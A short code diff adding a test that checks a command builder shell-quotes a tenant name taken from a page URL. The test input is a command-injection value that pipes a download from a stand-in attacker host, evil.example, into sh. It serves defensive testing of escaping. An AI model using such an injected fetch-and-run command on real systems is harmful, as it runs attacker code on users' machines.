@@ -173,6 +173,13 @@ describe('queues', () => {
     });
     expect(operatorCommands(undefined).quarantine[0]).toBe('npx switchboard quarantine list');
   });
+
+  it("quotes a tenant from the page's URL as one shell word, so a pasted command runs nothing else", () => {
+    expect(operatorCommands("x'; curl https://evil.example/p | sh; #").quarantine[0]).toBe(
+      `npx switchboard quarantine list --tenant 'x'\\''; curl https://evil.example/p | sh; #'`,
+    );
+    expect(operatorCommands('acme.eu-1_b').quarantine[0]).toBe('npx switchboard quarantine list --tenant acme.eu-1_b');
+  });
 });
 
 describe('requests', () => {
